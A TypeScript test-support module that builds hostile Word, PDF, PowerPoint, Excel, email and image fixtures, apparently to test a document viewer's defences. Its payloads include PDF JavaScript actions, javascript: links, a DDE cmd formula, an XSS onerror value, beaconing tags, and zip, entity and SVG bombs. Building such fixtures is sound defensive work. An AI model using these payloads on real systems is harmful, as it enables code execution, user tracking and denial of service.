import { crc32, deflateSync } from 'node:zlib'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { emlFile, html } from '../../../tests/support/mail/eml-file.ts'
import * as msg from '../../../tests/support/mail/mail-file.ts'
import { demoBytes, demoPlaces } from './demo-files.ts'

const office = 'http://schemas.openxmlformats.org'
const relation = (id: string, type: string, target: string, mode = ''): string =>
  `<Relationship Id="${id}" Type="${office}/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`
const relations = (...all: readonly string[]): Uint8Array =>
  strToU8(`<Relationships xmlns="${office}/package/2006/relationships">${all.join('')}</Relationships>`)

/** A document of Word with a page of HTML within, and with a picture from elsewhere. */
export function hostileDocx(address: string, script: string): Uint8Array<ArrayBuffer> {
  const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="${office}/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><a:graphic xmlns:a="${office}/drawingml/2006/main"><a:graphicData uri="${office}/drawingml/2006/picture"><pic:pic xmlns:pic="${office}/drawingml/2006/picture"><pic:blipFill><a:blip r:link="far" r:embed="far"/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
  return wordFile(`${paragraph('Harmlos')}<w:altChunk r:id="chunk"/>${picture}`, {
    'word/_rels/document.xml.rels': relations(
      relation('chunk', 'aFChunk', 'chunk.html'),
      relation('far', 'image', `${address}/docx`, ' TargetMode="External"'),
    ),
    'word/chunk.html': strToU8(`<html><body>${script}</body></html>`),
  })
}

/** One of some kilobytes that says all it has to say, and unpacks to 60 MB. */
export const swollenDocx = (): Uint8Array<ArrayBuffer> =>
  wordFile(paragraph('Harmlos'), { 'word/more.xml': new Uint8Array(60_000_000) })

/** One of so many paragraphs with their numbers. */
export const longDocx = (paragraphs: number): Uint8Array<ArrayBuffer> =>
  wordFile(Array.from({ length: paragraphs }, (_, at) => paragraph(`Absatz ${at + 1}`)).join(''))

const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

function wordFile(body: string, parts: Readonly<Record<string, Uint8Array>> = {}): Uint8Array<ArrayBuffer> {
  const types = `<Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
  return new Uint8Array(
    zipSync({
      '[Content_Types].xml': strToU8(types),
      '_rels/.rels': relations(relation('r1', 'officeDocument', 'word/document.xml')),
      'word/document.xml': strToU8(
        `<w:document xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${office}/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`,
      ),
      ...parts,
    }),
  )
}

/** A page that would run scripts, open addresses and send a form when it is shown. */
export const hostilePdf = (address: string): Uint8Array<ArrayBuffer> =>
  new TextEncoder().encode(
    `%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${address}/pdf"\\))>>/AA<</WC<</S/URI/URI(${address}/uri)>>>>/AcroForm<</Fields[5 0 R 6 0 R]/XFA(<script>fetch\\('${address}/xfa'\\)</script>)>>/Names<</JavaScript<</Names[(run) <</S/JavaScript/JS(fetch\\("${address}/names"\\))>>]>>>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R 5 0 R 6 0 R 7 0 R 8 0 R]/AA<</O<</S/URI/URI(${address}/page)>>>>>> endobj
4 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(javascript:fetch\\('${address}/link'\\))>>>> endobj
5 0 obj <</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Hafen)/Rect[0 100 200 130]/AA<</F<</S/JavaScript/JS(fetch\\("${address}/field"\\))>>>>>> endobj
6 0 obj <</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/MK<</CA(Los)>>/Rect[0 130 200 160]/A<</S/SubmitForm/F<</FS/URL/F(${address}/form)>>>>>> endobj
7 0 obj <</Type/Annot/Subtype/FreeText/Rect[0 160 200 200]/RC(<body><img src="${address}/rich"><script>fetch('${address}/script')</script></body>)/Contents(Notiz)>> endobj
8 0 obj <</Type/Annot/Subtype/Link/Rect[100 0 200 100]/A<</S/Launch/F<</FS/URL/F(${address}/launch)>>/NewWindow true>>>> endobj
trailer <</Root 1 0 R>>
%%EOF`,
  )

/** A real file whose parts are changed; the first place where each pattern stands counts. */
async function changed(
  place: string,
  changes: Readonly<Record<string, readonly [before: RegExp, after: string]>>,
  more: Readonly<Record<string, string>> = {},
): Promise<Uint8Array<ArrayBuffer>> {
  const parts = unzipSync(await demoBytes(place))
  for (const [name, [before, after]] of Object.entries(changes)) {
    const part = strFromU8(parts[name] ?? new Uint8Array())
    if (!before.test(part)) throw new Error(`${name} has no ${before.source}`)
    parts[name] = strToU8(part.replace(before, after))
  }
  for (const [name, text] of Object.entries(more)) parts[name] = strToU8(text)
  return new Uint8Array(zipSync(parts))
}

/** Slides with a picture, a film and a sound from elsewhere, and a text that would start a program when it is pressed. */
export const hostilePptx = (address: string): Promise<Uint8Array<ArrayBuffer>> => {
  const far = (id: string, type: string, path: string): string =>
    relation(id, type, path.includes(':') ? path : `${address}/${path}`, ' TargetMode="External"')
  const place =
    '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="999999" cy="999999"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
  const picture = `<p:pic><p:nvPicPr><p:cNvPr id="90" name="far"><a:hlinkClick r:id="run" action="ppaction://program"/></p:cNvPr><p:cNvPicPr/><p:nvPr><a:videoFile r:link="film"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="far" r:link="far"/></p:blipFill>${place}</p:pic>`
  const link = `<p:sp><p:nvSpPr><p:cNvPr id="91" name="run"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr>${place}<p:txBody><a:bodyPr/><a:p><a:r><a:rPr><a:hlinkClick r:id="run"/></a:rPr><a:t>Los</a:t></a:r></a:p></p:txBody></p:sp>`
  return changed(demoPlaces.slides, {
    'ppt/slides/slide1.xml': [/<\/p:spTree>/u, `${picture}${link}</p:spTree>`],
    'ppt/slides/_rels/slide1.xml.rels': [
      /<\/Relationships>/u,
      `${far('far', 'image', 'pptx')}${far('film', 'video', 'film')}${far('run', 'hyperlink', `javascript:fetch('${address}/run')`)}</Relationships>`,
    ],
  })
}

/** Slides in which groups lie within groups, deeper than any program follows. */
export const deepPptx = (): Promise<Uint8Array<ArrayBuffer>> => {
  const depth = 20_000
  const group =
    '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
  return changed(demoPlaces.slides, {
    'ppt/slides/slide1.xml': [
      /<\/p:spTree>/u,
      `${group.repeat(depth)}${'</p:grpSp>'.repeat(depth)}</p:spTree>`,
    ],
  })
}

/** A workbook whose cells ask a server, start a program and lead to a script. */
export const hostileXlsx = (address: string): Promise<Uint8Array<ArrayBuffer>> =>
  changed(demoPlaces.workbook, {
    'xl/worksheets/sheet1.xml': [
      /<sheetData>/u,
      `<sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("${address}/xlsx")</f><v>Harmlos</v></c><c r="B1" t="str"><f>HYPERLINK("javascript:fetch('${address}/cell')","Los")</f><v>&lt;img src=${address}/cell onerror=alert(1)&gt;</v></c><c r="C1" t="str"><f>cmd|'/c calc'!A1</f><v>=1+1</v></c></row>`,
    ],
  })

/** The same as {@link hostileMail} as Outlook keeps it. */
export const hostileMsg = (address: string): Uint8Array<ArrayBuffer> =>
  new Uint8Array(msg.messageFile({ properties: [msg.subject('Falle'), ...msg.html(hostilePage(address))] }))

/** A mail that would tell its sender that it is read, in every way that pages load something. */
export const hostileMail = (address: string): Uint8Array<ArrayBuffer> =>
  new Uint8Array(emlFile(['From: Anna <anna@firma.example>', 'Subject: Falle'], [html(hostilePage(address))]))

const hostilePage = (address: string): string =>
  `<p style="background:url(${address}/style)">Harmlos</p><img src="${address}/pixel.gif" srcset="${address}/set 2x">
    <link rel="stylesheet" href="${address}/css"><style>@import '${address}/import'; p { background: url(${address}/sheet) }</style>
    <iframe src="${address}/frame"></iframe><video poster="${address}/poster" src="${address}/video"></video><table background="${address}/table"></table>
    <script>top.postMessage('run', '*')</script><form action="${address}/form"><input autofocus onfocus="fetch('${address}/focus')"></form>
    <svg><image href="${address}/svg"/></svg><object data="${address}/object"></object><meta http-equiv="refresh" content="0;url=${address}/refresh">`

const chunk = (type: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A PNG that says it is so large, and holds its first rows. */
export function hugePng(width: number, height: number): Uint8Array<ArrayBuffer> {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0], 8)
  const rows = deflateSync(Buffer.alloc((width + 1) * 64), { level: 9 })
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', head),
      chunk('IDAT', rows),
      chunk('IEND', new Uint8Array()),
    ]),
  )
}

const levels = Array.from({ length: 12 }, (_, level) => level)

/** A drawing whose text is that of a million million entities. */
export const entityBomb = (): string =>
  `<!DOCTYPE svg [<!ENTITY a "Ebbe">${levels
    .map((level) => `<!ENTITY a${level} "${`&a${level === 0 ? '' : level - 1};`.repeat(10)}">`)
    .join(
      '',
    )}]><svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><text y="20">&a11;</text></svg>`

/** A drawing that draws itself ten times, and that ten times, twelve times over. */
export const useBomb = (): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><defs><rect id="a" width="9" height="9"/>${levels
    .map((level) => `<g id="a${level}">${`<use href="#a${level === 0 ? '' : level - 1}"/>`.repeat(10)}</g>`)
    .join('')}</defs><use href="#a11"/></svg>`
